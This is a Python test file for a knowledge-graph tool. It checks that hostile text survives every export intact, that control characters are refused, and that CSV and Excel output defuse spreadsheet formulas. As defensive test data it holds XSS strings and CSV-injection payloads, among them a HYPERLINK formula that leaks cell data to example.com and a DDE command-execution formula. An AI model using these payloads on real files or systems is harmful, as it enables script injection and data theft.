"""Hostile text in facts round-trips exactly through every export, and outside parsers accept it."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

from xml.etree import ElementTree

import pytest
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import RDFS

import kg
from kg.show import views
from kg.base.errors import ExportError
from kg.build.export import check_rdf

BASE = Path(__file__).parent / "fixtures" / "base"
ROOT = Path(__file__).parent.parent

# YAML double-quoted escapes, so the file itself stays printable.
HOSTILE = {
    "quotes": r'''"He said \"hi\" and 'bye' \"\"\" '''"'''"r''' end"''',
    "backslashes": r'"C:\\path\\to\\file \\n not a newline \\u0041"',
    "newlines": r'"line one\nline two\n\nline three\ttabbed"',
    # The marks only: the overrides and isolates are refused (tests/bad_facts/bidirectional_*).
    "bidi": r'"right-to-left \u200f mark \u200e left-to-right mark \u061c Arabic letter mark"',
    "emoji": r'"rocket \U0001F680 family \U0001F468\u200D\U0001F469\u200D\U0001F467 flag \U0001F1E8\U0001F1F3"',
    "markup": r'"<script>alert(1)</script> <img src=x onerror=alert(1)> {{x}} ${x} @prefix x: <y> ."',
    "long": '"' + "长" * 5000 + "x" * 5000 + '"',
}


def hostile_facts(tmp_path: Path) -> Path:
    facts = tmp_path / "facts"
    shutil.copytree(BASE, facts)
    entries = "".join(
        f"""
  - id: hostile-{name}
    roles: [investment-firm]
    name: {{zh: {value}, en: {value}}}
    source: outside
    note: {value}
    locator: {value}
"""
        for name, value in HOSTILE.items()
    )
    (facts / "hostile.yaml").write_text(
        "sources:\n  - id: outside\n    kind: report\n    title: {zh: 外部, en: Outside}\n"
        "organizations:" + entries,
        encoding="utf-8",
    )
    return facts


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    facts = hostile_facts(tmp_path_factory.mktemp("hostile"))
    graph = kg.load_graph(facts)
    import yaml

    expected = {name: yaml.safe_load(value) for name, value in HOSTILE.items()}
    return graph, expected


def labels(graph: Graph) -> dict[str, str]:
    prefix = "https://w3id.org/gpu-kg/id/hostile-"
    return {
        str(s)[len(prefix):]: str(o)
        for s, o in graph.subject_objects(RDFS.label)
        if str(s).startswith(prefix) and o.language == "en"
    }


def test_the_strings_reach_the_graph_unchanged(hostile):
    graph, expected = hostile
    assert labels(graph) == expected
    assert "\u200f" in expected["bidi"] and len(expected["long"]) == 10000


@pytest.mark.parametrize("escape", [r"\x00", r"\x07", r"\x1b", r"\x1f", r"\x7f", r"\x85", r"\x9f", r"\ufffe", r"\r"])
def test_a_control_character_is_refused_where_it_is_written(tmp_path, monkeypatch, escape):
    """At the start of the string that holds it: YAML gives no position inside a string."""
    monkeypatch.chdir(tmp_path)
    facts = tmp_path / "facts"
    shutil.copytree(BASE, facts)
    (facts / "hostile.yaml").write_text(
        "sources:\n  - id: outside\n    kind: report\n"
        f'    title: {{zh: 外部, en: "before {escape} after"}}\n', encoding="utf-8")
    with pytest.raises(kg.InputError) as caught:
        kg.load_graph(facts)
    [problem] = caught.value.problems
    assert str(problem).startswith(f"{Path('facts', 'hostile.yaml')}:4:25: a control character (")
    assert "has no place in a fact; remove it" in problem.message


def test_a_raw_control_character_or_nul_byte_has_its_line_and_column(tmp_path):
    facts = tmp_path / "facts"
    shutil.copytree(BASE, facts)
    (facts / "hostile.yaml").write_bytes("sources:\n  - id: outside\n    kind: re\x00port\n".encode())
    with pytest.raises(kg.InputError) as caught:
        kg.load_graph(facts)
    assert [problem.message for problem in caught.value.problems] == [
        "a control character (NUL) has no place in a fact; remove it"]
    assert caught.value.problems[0].location[1:] == (3, 13)


@pytest.mark.parametrize(("format_name", "parser"), [
    ("turtle", "turtle"), ("nt", "nt"), ("jsonld", "json-ld"), ("xml", "xml"), ("trig", "trig")])
def test_every_export_reads_back_exactly(hostile, format_name, parser):
    graph, expected = hostile
    data = kg.serialize(graph, format_name)
    check_rdf(format_name)(data)
    if format_name == "trig":
        from rdflib import Dataset

        dataset = Dataset()
        dataset.parse(data=data, format=parser)
        assert labels(dataset.graph(URIRef("https://w3id.org/gpu-kg/graph"))) == expected
        return
    assert labels(Graph().parse(data=data, format=parser)) == expected
    if format_name == "jsonld":
        json.loads(data)
    if format_name == "xml":
        ElementTree.fromstring(data)


@pytest.mark.parametrize("format_name", ["graphml", "gexf"])
def test_the_network_exports_are_well_formed_xml(hostile, format_name):
    graph, expected = hostile
    data = views.render(views.select_view(graph, name="all"), format_name)
    read = set()
    for element in ElementTree.fromstring(data).iter():
        read.add(element.text)
        read.update(element.attrib.values())
    assert set(expected.values()) <= read


def test_an_export_that_would_be_ill_formed_is_not_written(tmp_path, hostile):
    """A control character that reached a graph some other way (a store filled by another
    tool) stops the GraphML and RDF/XML exports before anything is written."""
    graph, _ = hostile
    graph = Graph() + graph
    graph.add((URIRef("https://w3id.org/gpu-kg/id/hostile-long"), RDFS.label, Literal("escape \x1b", lang="en")))
    target = tmp_path / "all.graphml"
    target.write_bytes(b"the previous export")
    with pytest.raises(ExportError, match=r"the GraphML would not be well formed \(line \d+, column \d+"):
        kg.write_atomically(target, views.render(views.select_view(graph, name="all"), "graphml"))
    with pytest.raises(ExportError, match=r"the RDF/XML would not be well formed"):
        kg.write_atomically(tmp_path / "g.rdf", kg.serialize(graph, "xml"), check=check_rdf("xml"))
    assert target.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["all.graphml"]


@pytest.mark.parametrize(("format_name", "syntax"), [("turtle", "turtle"), ("nt", "ntriples")])
def test_rapper_accepts_the_exports(hostile, tmp_path, format_name, syntax):
    from conftest import need_tool

    rapper = need_tool("rapper", "apt-get install raptor2-utils")
    graph, _ = hostile
    path = tmp_path / f"hostile.{format_name}"
    path.write_bytes(kg.serialize(graph, format_name))
    result = subprocess.run([rapper, "-i", syntax, "-c", str(path)], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert f"returned {len(graph)} triples" in result.stderr


@pytest.mark.parametrize("format_name", ["turtle", "nt"])
def test_jena_accepts_the_exports(hostile, tmp_path, format_name):
    from conftest import need_jena

    riot = need_jena()
    graph, _ = hostile
    path = tmp_path / f"hostile.{'ttl' if format_name == 'turtle' else 'nt'}"
    path.write_bytes(kg.serialize(graph, format_name))
    result = subprocess.run(["sh", riot, "--validate", str(path)], capture_output=True, text=True)
    assert result.returncode == 0 and result.stderr == "", result.stderr


def test_oxigraph_reads_the_json_ld(hostile):
    import pyoxigraph as ox

    graph, expected = hostile
    triples = list(ox.parse(kg.serialize(graph, "jsonld"), format=ox.RdfFormat.JSON_LD))
    found = {
        t.subject.value.rsplit("hostile-", 1)[1]: t.object.value
        for t in triples
        if "hostile-" in t.subject.value and t.predicate.value == str(RDFS.label) and t.object.language == "en"
    }
    assert found == expected


# --- spreadsheets: CSV never holds a formula ----------------------------------------------------

# What OWASP's "CSV Injection" lists, and its cousins: each would run when a spreadsheet opens the file.
FORMULAS = ['=HYPERLINK("https://example.com/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
            "-1+1", "\uff1d1+1"]


@pytest.fixture(scope="module")
def formula_facts(tmp_path_factory) -> Path:
    facts = tmp_path_factory.mktemp("formulas") / "facts"
    shutil.copytree(BASE, facts)
    entries = "".join(
        f"\n  - id: formula-{index}\n    roles: [investment-firm]\n    name: {{zh: {json.dumps(text)}, en: {json.dumps(text)}}}"
        f"\n    source: outside\n    locator: masthead\n"
        for index, text in enumerate(FORMULAS))
    (facts / "formulas.yaml").write_text(
        "sources:\n  - id: outside\n    kind: report\n    title: {zh: 外部, en: Outside}\norganizations:" + entries,
        encoding="utf-8")
    return facts


def formula_cells(data: bytes) -> list[str]:
    """The names of the formula-NNN entities in a find-entity CSV, as a spreadsheet's CSV reader gets them."""
    import csv
    import io

    text = data.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return sorted(row["name_label"] for row in rows if "/formula-" in row["id"])


@pytest.mark.parametrize("bom", [False, True], ids=["plain", "bom"])
def test_kg_query_csv_holds_no_formula(formula_facts, tmp_path, monkeypatch, bom):
    from click.testing import CliRunner

    from kg.cli import main

    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["query", "find-entity", "--facts", str(formula_facts), "--format", "csv",
                                       "-o", "names.csv"] + (["--bom"] if bom else []))
    assert result.exit_code == 0, result.output
    data = (tmp_path / "names.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") == bom
    assert formula_cells(data) == sorted("'" + text for text in FORMULAS)


def test_numbers_and_plain_text_in_csv_are_left_as_they_are():
    """Names lose their blanks in the reader; a value from elsewhere (a store another tool
    filled) may still start with one, or with a tab or a line end."""
    from kg.query.results import spreadsheet_text

    for text in ["  =1+1", "\t=1+1", "\tplain", "\r=1+1", "\n@SUM(1)", "\u3000=1+1"]:
        assert spreadsheet_text(text) == "'" + text, repr(text)
    for text in ["-2", "+1.5", "-3.5", "1e-3", "-.5", "HK$1", "a=b", "'quoted", "", "-", "中文"]:
        assert spreadsheet_text(text) == (text if text != "-" else "'-"), text


def test_the_web_apps_csv_downloads_hold_no_formula(formula_facts):
    from webapp import fetch, kg_serve

    with kg_serve(facts=formula_facts) as base:
        for bom in ("", "&bom=1"):
            status, headers, body = fetch(base + "/api/queries/find-entity?format=csv" + bom)
            assert status == 200, body
            assert formula_cells(body) == sorted("'" + text for text in FORMULAS)


def test_an_excel_workbook_keeps_formulas_as_text(formula_facts, tmp_path, monkeypatch):
    import openpyxl
    from click.testing import CliRunner

    from kg.cli import main

    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["query", "find-entity", "--facts", str(formula_facts), "-o", "names.xlsx"])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(tmp_path / "names.xlsx").active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)
             if "/formula-" in row[header.index("id")].value]
    assert sorted(cell.value for cell in cells) == sorted(FORMULAS)
    assert {cell.data_type for cell in cells} == {"s"}, "text, never a formula"


# --- Excel: every limit checked before anything is written -----------------------------------------

XSD_NS = "http://www.w3.org/2001/XMLSchema#"


def excel_query(tmp_path, query: str, *args: str):
    """``kg query QUERY -o out.xlsx`` over the small fact folder, after an earlier result was written there."""
    from click.testing import CliRunner

    from kg.cli import main

    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the previous result")
    result = CliRunner().invoke(main, ["query", query, "--facts", str(BASE), "-o", str(target), *args])
    return result, target


def test_a_text_longer_than_an_excel_cell_is_refused_not_cut(tmp_path):
    result, target = excel_query(tmp_path, f'SELECT ?short ?note WHERE {{ BIND("ok" AS ?short) '
                                           f'BIND("{"长" * 40_000}abc" AS ?note) }}')
    assert result.exit_code == 2, result.output
    assert result.stderr == ("Error: row 1 of the answer, column 'note': a text of 40003 characters, and an Excel "
                             "cell holds 32767; write CSV or JSON, which hold it whole\n")
    assert target.read_bytes() == b"the previous result"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]


def test_more_rows_than_a_sheet_holds_are_refused_as_they_come(tmp_path, monkeypatch):
    """1025 x 1025 rows: the engine's chunks stop at the sheet's limit, never held whole."""
    from rdflib import Literal

    from kg.query import catalog
    from kg.store.result import Result

    sent = []

    def stream(*args, **kwargs):
        row = (Literal(1),)
        for _ in range(1025):
            sent.append(1025)
            yield Result(("n",), (row,) * 1025)

    monkeypatch.setattr(catalog, "stream", stream)
    result, target = excel_query(tmp_path, "SELECT ?n WHERE { }")
    assert result.exit_code == 2, result.output
    assert result.stderr == ("Error: the answer has more than 1048575 rows, and an Excel sheet holds 1048575 below "
                             "its header; write CSV, or the rows in parts (kg query --limit 1048575 --offset N)\n")
    assert sum(sent) < 1025 * 1025, "it stopped at the limit"
    assert target.read_bytes() == b"the previous result"


def test_a_workbook_of_too_many_rows_or_columns_is_refused():
    from rdflib import Literal

    from kg.query.excel import TooBigForExcel, workbook
    from kg.store.result import Result

    with pytest.raises(TooBigForExcel) as caught:
        workbook(Result(("n",), ((Literal(1),),) * 1_050_625))
    assert str(caught.value) == ("the answer has 1050625 rows, and an Excel sheet holds 1048575 below its header; "
                                 "write CSV, or the rows in parts (kg query --limit 1048575 --offset N)")
    with pytest.raises(TooBigForExcel) as caught:
        workbook(Result(tuple(f"v{i}" for i in range(16_385)), ((None,) * 16_385,)))
    assert str(caught.value) == ("the answer has 16385 columns (and an IRI column for each column of "
                                 "entities), and an Excel sheet holds 16384; write CSV or JSON")


def test_what_excel_cannot_hold_as_its_type_is_written_as_its_exact_text(tmp_path):
    import datetime as dt

    import openpyxl

    values = {
        "ancient": f'"0001-01-01"^^<{XSD_NS}date>', "medieval": f'"1000-01-01"^^<{XSD_NS}date>',
        "eve": f'"1899-12-31"^^<{XSD_NS}date>', "first": f'"1900-01-01"^^<{XSD_NS}date>',
        "moment": f'"1899-12-31T23:59:59"^^<{XSD_NS}dateTime>',
        "yes": f'"yes"^^<{XSD_NS}boolean>', "abc": f'"abc"^^<{XSD_NS}decimal>', "true": f'"true"^^<{XSD_NS}boolean>',
        "digits": f'"1234567890123456789"^^<{XSD_NS}integer>', "fifteen": f'"123456789012345"^^<{XSD_NS}integer>',
        "leap": f'"1900-02-28"^^<{XSD_NS}date>', "march": f'"1900-03-01"^^<{XSD_NS}date>',
    }
    names = " ".join(f"?{name}" for name in values)
    result, target = excel_query(tmp_path, f"SELECT {names} WHERE {{ VALUES ({names}) {{ ({' '.join(values.values())}) }} }}")
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote {target} (xlsx, 1 row)\n", "no warning, no traceback"
    sheet = openpyxl.load_workbook(target).active
    cells = dict(zip((c.value for c in sheet[1]), sheet[2]))
    assert {name: cells[name].value for name in values} == {
        "ancient": "0001-01-01", "medieval": "1000-01-01", "eve": "1899-12-31", "first": "1900-01-01",
        "moment": "1899-12-31T23:59:59", "yes": "yes", "abc": "abc", "true": True,
        "digits": "1234567890123456789", "fifteen": 123456789012345,
        "leap": "1900-02-28", "march": dt.datetime(1900, 3, 1)}
    assert cells["digits"].data_type == "s" and cells["fifteen"].data_type == "n"


def test_ill_typed_literals_reach_every_format_as_written(tmp_path):
    from click.testing import CliRunner

    from kg.cli import main

    query = (f'SELECT ?b ?d WHERE {{ VALUES (?b ?d) {{ ("yes"^^<{XSD_NS}boolean> "abc"^^<{XSD_NS}decimal>) }} }}')
    result = CliRunner().invoke(main, ["query", query, "--facts", str(BASE), "--format", "tsv"])
    assert result.exit_code == 0
    assert result.stderr == ""
    assert result.stdout == f'?b\t?d\n"yes"^^<{XSD_NS}boolean>\t"abc"^^<{XSD_NS}decimal>\n'


# --- extract and coverage: hostile numbers are a message, never a traceback --------------------------


def test_numbers_the_reader_cannot_read_are_named_where_they_stand(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from kg.cli import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "article.txt").write_text("天数智芯营收9999999999999999999亿元。\n毛利率为٣٫٣٧%，出货量增长𝟓.𝟐倍。\n",
                                          encoding="utf-8")
    expected = ("article.txt:1:7: '9999999999999999999亿' has 19 digits before the point; a figure has at most 18\n"
                "article.txt:2:5: '٣٫٣٧' is written in digits of another script (ARABIC-INDIC DIGIT THREE); "
                "write it with the digits 0-9\n"
                "article.txt:2:16: '𝟓.𝟐' is written in digits of another script (MATHEMATICAL BOLD DIGIT FIVE); "
                "write it with the digits 0-9\n"
                "3 problems; nothing was written.\n")
    for args in (["extract", "article.txt", "-o", "candidates.yaml"], ["coverage", "article.txt", "--source", "article"]):
        result = CliRunner().invoke(main, args + ["--facts", str(BASE)])
        assert (result.exit_code, result.stderr) == (1, expected), result.output
        assert "Traceback" not in result.output
    assert not (tmp_path / "candidates.yaml").exists()


def test_full_width_digits_points_and_commas_are_read_as_the_fact_reader_reads_them():
    from kg.author.extract import find_figures
    from kg.base.values import MONEY, parse_amount

    found = find_figures("天数智芯2022年收入１．８９亿元，研发投入1，890万元，毛利率５０％。")
    assert [(c.stated, c.value, c.unit) for c in found] == [
        (("１．８９亿元",), "189000000.0", "CNY"), (("1，890万元",), "18900000.0", "CNY"), (("５０％",), "50.0", "percent")]
    assert [str(parse_amount(text, MONEY).value) for text in ("１．８９亿元", "1，890万元")] == ["189000000.0", "18900000.0"]


def test_the_web_apps_excel_download_says_when_the_answer_does_not_fit(formula_facts, monkeypatch):
    """The same check as kg query's, with a sheet made small so that a small answer passes it."""
    from webapp import app_server, fetch

    from kg.query import excel
    from kg.web import app as serve

    monkeypatch.setattr(excel, "MAX_ROWS", 3)
    with app_server(serve.Site(kg.load_graph(formula_facts))) as base:
        status, headers, body = fetch(base + "/api/queries/find-entity?format=xlsx")
    assert status == 400, body
    assert body.decode("utf-8") == ("the answer has 9 rows, and an Excel sheet holds 3 below its header; write CSV, "
                                    "or the rows in parts (kg query --limit 3 --offset N)\n")
